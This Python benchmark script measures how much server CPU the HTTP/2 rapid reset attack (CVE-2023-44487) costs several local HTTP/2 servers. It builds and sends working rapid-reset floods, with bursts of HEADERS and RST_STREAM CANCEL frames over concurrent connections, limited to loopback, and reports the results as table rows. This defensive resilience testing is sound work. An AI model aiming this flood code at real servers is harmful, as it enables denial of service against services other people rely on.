#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487): the server's CPU time per attacking
connection, for each server of the benchmark harness's `bench-server`.

Each attacking connection sends the preface, an empty SETTINGS frame and, in
one write, BURST pairs of HEADERS (GET /) and RST_STREAM (CANCEL), then reads
until the server's GOAWAY and end of file, and closes. The server's CPU time
(user + system, from /proc/PID/stat) is read before and after CONNECTIONS
such connections, CONCURRENCY at a time; the same wall time idle is measured
too, and the figure reported is (attack CPU - idle CPU) / connections, with
the raw attack CPU alongside. Bounded: loopback only, a fixed number of
connections, a timeout on every socket.

    cargo build --profile ci-bench -p albany-bench --bin bench-server
    python3 benches/rapid_reset.py [--connections 2000] [--rounds 3] \
        [--servers albany-tokio,albany-async-std,...]

It prints one Markdown table row per server (RELIABILITY.md, "HTTP/2 rapid
reset").
"""

import argparse
import os
import socket
import struct
import subprocess
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TICKS = os.sysconf("SC_CLK_TCK")


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK literal without indexing, no Huffman coding; short strings only.
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def burst(port, count):
    block = (
        literal(b":method", b"GET")
        + literal(b":scheme", b"http")
        + literal(b":authority", b"127.0.0.1:%d" % port)
        + literal(b":path", b"/")
    )
    out = [PREFACE, frame(0x4, 0, 0, b"")]
    for i in range(count):
        stream = 1 + 2 * i
        out.append(frame(0x1, 0x5, stream, block))
        out.append(frame(0x3, 0, stream, struct.pack(">I", 0x8)))
    return b"".join(out)


def attack_one(port, payload, outcomes):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    goaway = None
    try:
        s.sendall(payload)
        buffer = b""
        while True:
            data = s.recv(65536)
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind = buffer[3]
                body = buffer[9 : 9 + length]
                buffer = buffer[9 + length :]
                if kind == 0x7 and goaway is None:
                    goaway = int.from_bytes(body[4:8], "big")
    except OSError:
        pass
    finally:
        s.close()
    outcomes.append(goaway)


def attack(port, connections, concurrency, count):
    payload = burst(port, count)
    outcomes = []
    lock = threading.Lock()
    left = [connections]

    def worker():
        while True:
            with lock:
                if left[0] == 0:
                    return
                left[0] -= 1
            attack_one(port, payload, outcomes)

    threads = [threading.Thread(target=worker) for _ in range(concurrency)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return outcomes


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    # utime and stime are fields 14 and 15 (1-based) of the whole line.
    return (int(fields[11]) + int(fields[12])) / TICKS


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def wait_listening(port):
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.05)
    sys.exit(f"the server on port {port} did not start")


def measure(binary, server, threads, connections, concurrency, count):
    port = free_port()
    process = subprocess.Popen(
        [binary, "--server", server, "--threads", str(threads), "--addr", f"127.0.0.1:{port}"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_listening(port)
        time.sleep(0.5)
        attack(port, 20, 1, count)  # warm up
        time.sleep(0.2)
        before = cpu_seconds(process.pid)
        started = time.time()
        outcomes = attack(port, connections, concurrency, count)
        wall = time.time() - started
        attack_cpu = cpu_seconds(process.pid) - before
        before = cpu_seconds(process.pid)
        time.sleep(wall)
        idle_cpu = cpu_seconds(process.pid) - before
    finally:
        process.kill()
        process.wait()
    calm = sum(1 for o in outcomes if o == 0xB)
    return attack_cpu, idle_cpu, wall, calm


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--binary", default="target/ci-bench/bench-server")
    parser.add_argument(
        "--servers",
        default="albany-tokio,albany-async-std,albany-smol,hyper-tokio,hyper-async-std,hyper-smol",
    )
    parser.add_argument("--threads", type=int, default=2)
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--concurrency", type=int, default=4)
    parser.add_argument("--burst", type=int, default=100)
    parser.add_argument("--rounds", type=int, default=3)
    args = parser.parse_args()
    print("| server | ms CPU per connection, idle subtracted (each round) | attack CPU s | idle CPU s over the same wall time | wall s | GOAWAY ENHANCE_YOUR_CALM |")
    print("| --- | --- | --- | --- | --- | --- |")
    for server in args.servers.split(","):
        per, raw, idle, walls, calms = [], [], [], [], []
        for _ in range(args.rounds):
            attack_cpu, idle_cpu, wall, calm = measure(
                args.binary, server, args.threads, args.connections, args.concurrency, args.burst
            )
            per.append((attack_cpu - idle_cpu) * 1000 / args.connections)
            raw.append(attack_cpu)
            idle.append(idle_cpu)
            walls.append(wall)
            calms.append(calm)
        print(
            f"| {server} | {', '.join(f'{p:.3f}' for p in per)} | {', '.join(f'{r:.2f}' for r in raw)} "
            f"| {', '.join(f'{i:.2f}' for i in idle)} | {', '.join(f'{w:.1f}' for w in walls)} "
            f"| {', '.join(f'{c}/{args.connections}' for c in calms)} |",
            flush=True,
        )


if __name__ == "__main__":
    main()
